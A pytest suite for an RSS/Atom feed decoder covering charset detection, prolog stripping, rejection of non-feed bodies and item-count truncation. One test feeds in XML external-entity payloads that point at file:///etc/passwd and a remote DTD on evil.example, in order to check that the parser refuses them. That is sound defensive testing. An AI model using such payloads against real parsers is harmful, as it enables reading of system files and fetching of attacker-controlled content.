"""Bytes of a feed become characters and a bounded document, or a typed refusal."""

import codecs

import pytest

from connectors.feed_document import MAX_ITEMS, decoded, open_document
from pipeline.errors import PayloadError

FEED = "<rss version='2.0'><channel><title>Café</title>{}</channel></rss>"
ITEM = "<item><title>één</title></item>"


def feed(*items: str, prolog: str = "") -> bytes:
    return (prolog + FEED.format("".join(items))).encode()


def declared(encoding: str, text: str = "Café – één") -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?><rss>{text}</rss>'.encode(encoding)


@pytest.mark.fault(47)
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("Café".encode(), ""),
        (codecs.BOM_UTF8 + "Café".encode(), "text/xml; charset=windows-1252"),
        (codecs.BOM_UTF16_LE + "Café".encode("utf-16-le"), "text/xml; charset=utf-8"),
        (codecs.BOM_UTF16_BE + "Café".encode("utf-16-be"), ""),
        ("Café".encode("windows-1252"), "text/xml; charset=windows-1252"),
        ("Café".encode("windows-1252"), 'text/xml; charset="ISO-8859-1"'),
        ("Café".encode("windows-1252"), ""),
        ("Café".encode("cp850"), "text/xml; charset=cp850"),
        ("Café".encode(), "text/xml; charset=ISO-8859-1"),
        ("Café".encode(), "text/xml; charset=no-such-thing"),
        ("Café".encode(), "text/xml; charset=utf-16"),
    ],
)
def test_mark_before_http_before_guess(body: bytes, content_type: str) -> None:
    assert decoded(body, content_type) == "Café"


@pytest.mark.parametrize("encoding", ["utf-8", "windows-1252", "cp1250", "utf-16", "iso-8859-15"])
def test_the_declaration_is_believed_when_nothing_else_tells(encoding: str) -> None:
    text = "Café - één" if encoding == "iso-8859-15" else "Café – één"
    assert text in decoded(declared(encoding, text))


def test_http_comes_before_the_declaration() -> None:
    body = '<?xml version="1.0" encoding="windows-1252"?><rss>Łódź</rss>'.encode("cp1250")
    assert "Łódź" in decoded(body, "text/xml; charset=windows-1250")


def test_quotes_of_windows_are_quotes() -> None:
    body = b'<?xml version="1.0" encoding="iso-8859-1"?><rss>\x93quoted\x94</rss>'
    assert "“quoted”" in decoded(body)


@pytest.mark.fault(47)
def test_damaged_utf8_keeps_what_is_sound() -> None:
    assert decoded("één, twee, drieën ".encode() + b"\xff") == "één, twee, drieën \ufffd"


@pytest.mark.parametrize("codec", ["unicode_escape", "utf-7", "idna", "punycode", "zlib", "rot13"])
def test_codecs_that_are_no_encodings_of_the_web_are_not_used(codec: str) -> None:
    assert decoded(b"+AGE- \\u0041", f"text/xml; charset={codec}") == "+AGE- \\u0041"


@pytest.mark.parametrize(
    "prolog",
    [
        '<?xml version="1.0" encoding="utf-8"?>',
        '\n\n <?xml version="1.0"\nencoding="utf-8"?>',
        '<!-- made by hand --><?xml?xml version="1.0" encoding="UTF-8" ??>',
        '<?phpxml version="1.0"?>',
        "\ufeff<!DOCTYPE html>",
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">',
        "<!DOCTYPE rss [ <!ELEMENT rss ANY> ]>",
        '<?xml-stylesheet href="look.xsl"?><!-- <html> -->',
        "Warning: something broke in /var/www on line 3\n",
    ],
)
def test_whatever_stands_before_the_feed_is_cut_off(prolog: str) -> None:
    document = open_document(feed(ITEM, prolog=prolog), "")
    assert document.text.startswith("<rss")
    assert (document.items, document.kept, document.is_whole) == (1, 1, True)


@pytest.mark.fault(41)
@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa">]>',
        '<!DOCTYPE rss [\n<!ELEMENT rss ANY>\n<!entity b SYSTEM "file:///etc/passwd">] >',
        '<!-- <rss> --><!DOCTYPE rss [<!ENTITY % c SYSTEM "http://evil.example/x.dtd"> %c;]>',
    ],
)
def test_entity_definitions_are_refused(prolog: str) -> None:
    with pytest.raises(PayloadError, match="entity"):
        open_document(feed(ITEM, prolog=prolog), "")


def test_writing_about_entities_is_allowed() -> None:
    item = "<item><description><![CDATA[Write <!ENTITY x 'y'> so]]></description></item>"
    assert open_document(feed(item), "").items == 1


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (b"", "an empty answer"),
        (b" \n\t\x00", "an empty answer"),
        (b"<!DOCTYPE html><html><body>Please sign in</body></html>", "an HTML page"),
        (b"<html", "an HTML page"),
        (b'["no", "feed"]', "JSON where"),
        (b"Service unavailable", "text where"),
        (b"<opml><body/></opml>", "<opml>"),
        (b"<!-- never closed <rss>", "text where"),
        (b"<!DOCTYPE rss [ <rss>", "text where"),
    ],
)
def test_what_is_no_feed_is_said_to_be_none(body: bytes, told: str) -> None:
    with pytest.raises(PayloadError, match=told):
        open_document(body, "")


def test_who_gave_the_address_of_a_page_is_told_so() -> None:
    with pytest.raises(PayloadError) as caught:
        open_document(b"<!DOCTYPE html><html><body>Nieuws</body></html>", "")
    assert caught.value.todo.startswith("name the address of the feed itself")


def test_html_entities_become_characters_and_those_of_xml_stay() -> None:
    item = "<item><title>caf&eacute;&nbsp;&amp; &amp;nbsp; &unknown;</title></item>"
    assert "<title>café\xa0&amp; &amp;nbsp; &unknown;</title>" in open_document(feed(item), "").text


@pytest.mark.fault(47)
def test_control_characters_go() -> None:
    assert "<title>ab</title>" in open_document(feed("<item><title>a\x07b</title></item>"), "").text


def test_a_download_that_was_cut_off_is_not_whole() -> None:
    assert not open_document(feed(ITEM)[:-9], "").is_whole


@pytest.mark.fault(42)
@pytest.mark.parametrize(
    ("form", "item"),
    [
        ("<rss><channel>{}</channel></rss>", "<item/>"),
        ("<rdf:RDF xmlns:rdf='r'><channel/>{}</rdf:RDF>", "<item/>"),
        ("<a:feed xmlns:a='http://www.w3.org/2005/Atom'>{}</a:feed>", "<a:entry></a:entry>"),
    ],
)
def test_a_huge_feed_is_cut_where_an_entry_begins(form: str, item: str) -> None:
    document = open_document(form.format(item * (MAX_ITEMS + 7)).encode(), "")
    assert (document.items, document.kept) == (MAX_ITEMS + 7, MAX_ITEMS)
    assert document.text == form.format(item * MAX_ITEMS)


def test_a_prefix_that_nobody_declared_is_taken_off() -> None:
    body = (
        b"<rss><rss:channel><rss:item rss:a=b><rss:title>rss:item</rss:title></rss:item>"
        b"</rss:channel></rss>"
    )
    bare = "<rss><channel><item a=b><title>rss:item</title></item></channel></rss>"
    assert open_document(body, "").without_stray_prefix().text == bare
    good = b"<rss xmlns:rss='http://purl.org/rss/1.0/'><rss:item/></rss>"
    assert open_document(good, "").without_stray_prefix().text == good.decode()
